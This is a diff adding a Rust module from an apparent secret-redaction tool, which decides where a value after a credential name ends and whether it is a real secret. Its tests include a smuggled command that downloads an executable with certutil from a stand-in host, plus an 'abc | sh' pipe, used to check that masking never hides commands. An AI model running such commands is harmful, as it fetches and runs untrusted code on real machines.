@@ -1,0 +1,448 @@
+//! Where a value ends, and whether it is worth masking.
+
+use super::keys::Announces;
+use super::spans;
+use crate::text::is_listed;
+
+/// How a value is set off from its name.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub(super) enum Joint {
+    /// `name=value`.
+    Equals,
+    /// `name: value`, which is also how people write.
+    Colon,
+    /// `--name value`.
+    Flag,
+    /// `<name>value</name>`.
+    Element,
+    /// `name value`, in a command that sets something.
+    Blank,
+}
+
+/// A value's place in bytes.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub(super) struct Value {
+    pub(super) start: usize,
+    pub(super) end: usize,
+    pub(super) quoted: bool,
+}
+
+const QUOTES: [char; 9] = ['"', '\'', '`', '“', '”', '‘', '’', '«', '»'];
+/// How much of a value is looked at to judge it, in bytes; [`whole`] finds the end of a longer one.
+const LONGEST: usize = 4096;
+
+/// Finds the value that begins at `at`.
+pub(super) fn extent(text: &str, at: usize, joint: Joint) -> Option<Value> {
+    let rest = text.get(at..)?;
+    if joint == Joint::Element {
+        let most = spans::floor(rest, LONGEST);
+        let end = rest[..most].find('<').unwrap_or(most);
+        return Some(Value {
+            start: at,
+            end: at + end,
+            quoted: true,
+        });
+    }
+    if let Some(quote) = opening_quote(rest) {
+        let start = at + quote.len;
+        let end =
+            closing_quote(&text[start..], &quote).map_or_else(|| unquoted_end(text, start, joint), |end| start + end);
+        return Some(Value {
+            start,
+            end: before_command(text, start, end),
+            quoted: true,
+        });
+    }
+    if spans::starts_with_mask(rest) || rest.starts_with("[DECODED:") {
+        return None;
+    }
+    let end = unquoted_end(text, at, joint);
+    Some(Value {
+        start: at,
+        end,
+        quoted: false,
+    })
+}
+
+/// Follows a value that is longer than what was looked at to its end.
+pub(super) fn whole(text: &str, value: Value, joint: Joint) -> Value {
+    if value.end - value.start + 4 < LONGEST {
+        return value;
+    }
+    let end = match joint {
+        Joint::Element => text[value.start..].find('<').map_or(text.len(), |at| value.start + at),
+        _ => end_within(text, value.start, joint, text.len()),
+    };
+    Value {
+        end: end.max(value.end),
+        ..value
+    }
+}
+
+/// An opening quote: its bytes with the backslashes before it, and what closes it.
+#[derive(Debug, Clone, Copy)]
+pub(super) struct Quote {
+    pub(super) len: usize,
+    backslashes: usize,
+    close: char,
+}
+
+/// Reads an opening quote, behind any number of backslashes and one letter of a string literal (`N'…'`, `r"…"`, `@"…"`).
+pub(super) fn opening_quote(text: &str) -> Option<Quote> {
+    let bytes = text.as_bytes();
+    let mut prefix = 0;
+    if matches!(
+        bytes,
+        [
+            b'N' | b'n' | b'r' | b'b' | b'u' | b'f' | b'E' | b'@' | b'$',
+            b'"' | b'\'',
+            ..
+        ]
+    ) {
+        prefix = 1;
+    }
+    let backslashes = bytes[prefix..].iter().take(8).take_while(|&&b| b == b'\\').count();
+    let quote = text[prefix + backslashes..]
+        .chars()
+        .next()
+        .filter(|c| QUOTES.contains(c))?;
+    let close = match quote {
+        '“' => '”',
+        '‘' => '’',
+        '«' => '»',
+        same => same,
+    };
+    Some(Quote {
+        len: prefix + backslashes + quote.len_utf8(),
+        backslashes,
+        close,
+    })
+}
+
+/// Finds where the quoted text ends. The closing quote has as many backslashes before it as the opening one.
+pub(super) fn closing_quote(text: &str, quote: &Quote) -> Option<usize> {
+    let mut slashes = 0;
+    let mut skip = false;
+    for (at, c) in text.char_indices().take_while(|&(at, _)| at < LONGEST) {
+        if skip {
+            skip = false;
+            slashes = 0;
+            continue;
+        }
+        if c == '\n' && quote.backslashes == 0 && quote.close != '"' {
+            return None;
+        }
+        if c == '\\' {
+            slashes += 1;
+            continue;
+        }
+        if c == quote.close {
+            let doubled = quote.backslashes == 0 && text[at + c.len_utf8()..].starts_with(c) && matches!(c, '\'' | '"');
+            let next = text[at + c.len_utf8()..].chars().next();
+            if doubled
+                && slashes == 0
+                && text[at + 2 * c.len_utf8()..]
+                    .chars()
+                    .next()
+                    .is_some_and(char::is_alphanumeric)
+            {
+                skip = true;
+                continue;
+            }
+            let ends_word =
+                next.is_none_or(|c| c.is_whitespace() || matches!(c, ',' | ';' | ')' | '}' | ']' | '&' | '|'));
+            let escaped = if quote.backslashes == 0 {
+                slashes % 2 == 1 && !ends_word
+            } else {
+                slashes > quote.backslashes
+            };
+            if !escaped {
+                return Some(at - slashes.min(quote.backslashes));
+            }
+        }
+        slashes = 0;
+    }
+    None
+}
+
+// A value in quotes that goes on with a command is no value: the mask must not hide the command.
+pub(super) fn before_command(text: &str, start: usize, end: usize) -> usize {
+    let value = &text[start..end];
+    let cut = [" & ", " && ", " | ", " || ", "; ", "\n"]
+        .iter()
+        .filter_map(|joint| value.find(joint))
+        .min();
+    cut.map_or(end, |at| start + value[..at].trim_end().len())
+}
+
+fn unquoted_end(text: &str, start: usize, joint: Joint) -> usize {
+    end_within(text, start, joint, LONGEST)
+}
+
+fn end_within(text: &str, start: usize, joint: Joint, most: usize) -> usize {
+    let value = &text[start..spans::floor(text, start.saturating_add(most))];
+    let mut open = 0_i32;
+    for (at, c) in value.char_indices() {
+        let after = &value[at + c.len_utf8()..];
+        let next = after.chars().next();
+        let word_ends = next.is_none_or(|c| {
+            c.is_whitespace() || matches!(c, ',' | ';' | ')' | '}' | ']' | '"' | '\'' | '&' | '|' | '>' | '<')
+        });
+        let ends = match c {
+            c if c.is_whitespace() => true,
+            ';' | '|' | '"' | '<' | '“' | '”' => true,
+            '&' => joint != Joint::Flag || word_ends,
+            '\\' => next.is_some_and(|c| {
+                matches!(c, '"' | '\'' | 'n' | 'r') && (c == '"' || c == '\'' || text[..start].ends_with(['"', '\\']))
+            }),
+            ',' => word_ends || names_another(after),
+            '(' | '{' | '[' => {
+                open += 1;
+                false
+            }
+            ')' | '}' | ']' if open > 0 => {
+                open -= 1;
+                false
+            }
+            ')' | '}' | ']' | '>' | '\'' | '`' => word_ends,
+            _ => false,
+        };
+        if ends {
+            return start + at;
+        }
+    }
+    start + value.len()
+}
+
+// `replicas=3` after a comma: the next entry of a list.
+fn names_another(text: &str) -> bool {
+    let name = text
+        .bytes()
+        .take(48)
+        .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.' | b'-' | b' '))
+        .count();
+    name > 0 && matches!(text.as_bytes().get(name), Some(b'=' | b':'))
+}
+
+/// Says whether this is a secret, given what its name announces.
+pub(super) fn is_secret(value: &str, announces: Announces, joint: Joint) -> bool {
+    let value = value.trim();
+    if value.is_empty()
+        || value.contains(spans::MASK)
+            && !value
+                .trim_start_matches(|c| c != ']')
+                .trim_start_matches(']')
+                .chars()
+                .any(char::is_alphanumeric)
+    {
+        return false;
+    }
+    if is_reference(value) || is_placeholder(value) {
+        return false;
+    }
+    let prose = matches!(joint, Joint::Colon | Joint::Blank);
+    if is_path(value) {
+        return false;
+    }
+    if says_state(value) {
+        return false;
+    }
+    match announces {
+        Announces::Password => !(prose && value.chars().all(|c| !c.is_alphanumeric())),
+        Announces::Token => looks_made(value, 6),
+        Announces::Pin => (4..=8).contains(&value.len()) && value.bytes().all(|b| b.is_ascii_digit()),
+        Announces::Session => looks_made(value, 12) && !is_identifier(value),
+        Announces::Signature => looks_made(value, 16),
+    }
+}
+
+/// Says whether a machine made this text: letters and digits mixed, or both cases, or long, and no sentence.
+pub(super) fn looks_made(value: &str, least: usize) -> bool {
+    if value.len() < least || value.contains(' ') {
+        return false;
+    }
+    let has = |test: fn(&u8) -> bool| value.as_bytes().iter().any(test);
+    let (digit, lower, upper) = (
+        has(u8::is_ascii_digit),
+        has(u8::is_ascii_lowercase),
+        has(u8::is_ascii_uppercase),
+    );
+    let letters = lower || upper;
+    digit && letters
+        || lower && upper && value.len() >= 12
+        || value.len() >= 24 && letters
+        || digit && value.len() >= 16
+        || !value.is_ascii()
+}
+
+// GUIDs, SIDs and numbers of sessions are looked up, not stolen.
+fn is_identifier(value: &str) -> bool {
+    let bare = value.trim_matches(|c| matches!(c, '{' | '}' | '"'));
+    bare.starts_with("S-1-")
+        || bare.starts_with("0x")
+        || bare.len() == 36
+            && bare.bytes().filter(|&b| b == b'-').count() == 4
+            && bare.bytes().all(|b| b == b'-' || b.is_ascii_hexdigit())
+}
+
+// A variable or an expression stands where the secret will be.
+fn is_reference(value: &str) -> bool {
+    const CALLS: &str = "\
+        convertto-securestring read-host get-credential getpass input( prompt( os.environ os.getenv getenv \
+        environ process.env system.getenv env. secrets. vault: file: env: fd: stdin (convertto (get- (read- \
+        [system. new-object";
+    if value.starts_with("%%") && value[2..].bytes().all(|b| b.is_ascii_digit()) {
+        return true;
+    }
+    let variable = |name: &str| {
+        !name.is_empty()
+            && name
+                .bytes()
+                .all(|b| b.is_ascii_uppercase() || b.is_ascii_digit() || b == b'_')
+    };
+    if let Some(name) = value.strip_prefix('%').and_then(|rest| rest.strip_suffix('%')) {
+        return !name.is_empty() && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_');
+    }
+    if let Some(name) = value.strip_prefix('$') {
+        let lower = name.to_ascii_lowercase();
+        return variable(name)
+            || name.starts_with(['{', '('])
+            || lower.starts_with("env:")
+            || matches!(
+                lower.as_str(),
+                "password"
+                    | "passwd"
+                    | "pass"
+                    | "pwd"
+                    | "secret"
+                    | "token"
+                    | "cred"
+                    | "creds"
+                    | "credential"
+                    | "pw"
+                    | "securepassword"
+                    | "null"
+            )
+            || name.bytes().all(|b| b.is_ascii_digit());
+    }
+    let lower = value.to_ascii_lowercase();
+    CALLS.split(' ').any(|call| lower.starts_with(call))
+        || value.starts_with("{{")
+        || value.starts_with("<%")
+        || value.starts_with("${")
+}
+
+// `<password>`, `***`, `xxxx`, `…`: somebody else hid it already, or it is documentation.
+fn is_placeholder(value: &str) -> bool {
+    if value.starts_with('<') && value.ends_with('>') || value.starts_with("[REDACTED") {
+        return true;
+    }
+    let mut chars = value.chars();
+    let first = chars.next().unwrap_or(' ');
+    matches!(first, '*' | 'x' | 'X' | '.' | '•' | '-' | '_' | '#' | '?' | '…') && chars.all(|c| c == first)
+}
+
+// A path or a file name is where a secret may be, and evidence.
+fn is_path(value: &str) -> bool {
+    const FILES: &str = "\
+        php txt html htm asp aspx jsp js css py sh ps1 exe dll bat json xml yml yaml conf cfg ini log csv \
+        xlsx docx pdf db key pem kdbx lst";
+    let bytes = value.as_bytes();
+    let named = |text: &str| {
+        text.bytes().all(|b| {
+            b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'-' | b' ' | b'/' | b'\\' | b'*' | b'~' | b'$')
+        })
+    };
+    if value.starts_with("//") || value.starts_with("\\\\") {
+        return true;
+    }
+    if bytes.len() > 3 && bytes[0].is_ascii_alphabetic() && bytes[1] == b':' && matches!(bytes[2], b'\\' | b'/') {
+        return true;
+    }
+    if value.starts_with("./") || value.starts_with("../") || value.starts_with("~/") {
+        return true;
+    }
+    if value.starts_with('/') && named(value) {
+        let inner = value.trim_matches('/');
+        return inner.contains('/')
+            || value.ends_with('/')
+            || inner.len() >= 2 && inner.bytes().all(|b| b.is_ascii_lowercase() || b == b'.' || b == b'_');
+    }
+    value.rsplit_once('.').is_some_and(|(stem, ending)| {
+        is_listed(FILES, &ending.to_ascii_lowercase())
+            && !stem.is_empty()
+            && stem
+                .bytes()
+                .all(|b| b.is_ascii_lowercase() || matches!(b, b'_' | b'-' | b'/' | b'.'))
+    })
+}
+
+// Words that people and programs write after the name of a secret without telling it.
+fn says_state(value: &str) -> bool {
+    const STATES: &str = "\
+        true false yes no null none nil undefined empty set unset unknown n/a missing present absent \
+        invalid valid incorrect correct wrong bad expired expires changed change updated reset failed \
+        failure fail failures success successful succeeded accepted rejected denied required optional \
+        disabled enabled locked hidden protected masked redacted removed encrypted plaintext the a an is \
+        was has have not for of to in on and or must should will can cannot does do be user users string \
+        str bool int object type bearer basic negotiate ntlm kerberos digest authentication authorization \
+        error errors mismatch 0 1 -1 never";
+    let word = value.trim_end_matches(['.', ',', ':', '!']).to_ascii_lowercase();
+    is_listed(STATES, &word)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn value(text: &str, joint: Joint) -> &str {
+        let value = extent(text, 0, joint).unwrap();
+        &text[value.start..value.end]
+    }
+
+    #[test]
+    fn a_value_ends_where_its_syntax_ends() {
+        assert_eq!(value("Helm-Pa55,replicas=3", Joint::Equals), "Helm-Pa55");
+        assert_eq!(value("Sv(Pass9 rest", Joint::Equals), "Sv(Pass9");
+        assert_eq!(value("\"two words\" rest", Joint::Equals), "two words");
+        assert_eq!(value("\\\"Pa55 w0rd x\\\" y", Joint::Equals), "Pa55 w0rd x");
+        assert_eq!(value("abc;next", Joint::Equals), "abc");
+        assert_eq!(value("C0nnStr!ng;Encrypt", Joint::Equals), "C0nnStr!ng");
+        assert_eq!(value("'it''s' x", Joint::Equals), "it''s");
+        assert_eq!(value("x)y)", Joint::Equals), "x)y");
+        assert_eq!(value("hunter2</password>", Joint::Element), "hunter2");
+    }
+
+    #[test]
+    fn a_mask_never_swallows_the_command_behind_it() {
+        assert_eq!(
+            value(
+                "\" & certutil -urlcache -f http://203.0.113.9/a.exe a.exe & \"",
+                Joint::Equals
+            ),
+            ""
+        );
+        assert_eq!(value("\"abc | sh\"", Joint::Equals), "abc");
+    }
+
+    #[test]
+    fn states_references_and_paths_are_no_secrets() {
+        for kept in [
+            "%%1842",
+            "$PGPASSWORD",
+            "${DB}",
+            "/etc/passwd",
+            "C:\\Users\\x",
+            "true",
+            "***",
+            "<password>",
+            "password.php",
+            "/etc/",
+        ] {
+            assert!(!is_secret(kept, Announces::Password, Joint::Colon), "{kept}");
+        }
+        for secret in ["hunter2", "Sommer2026x", "$ecret!9", "/8fj3k+3kd=", "z"] {
+            assert!(is_secret(secret, Announces::Password, Joint::Equals), "{secret}");
+        }
+    }
+}
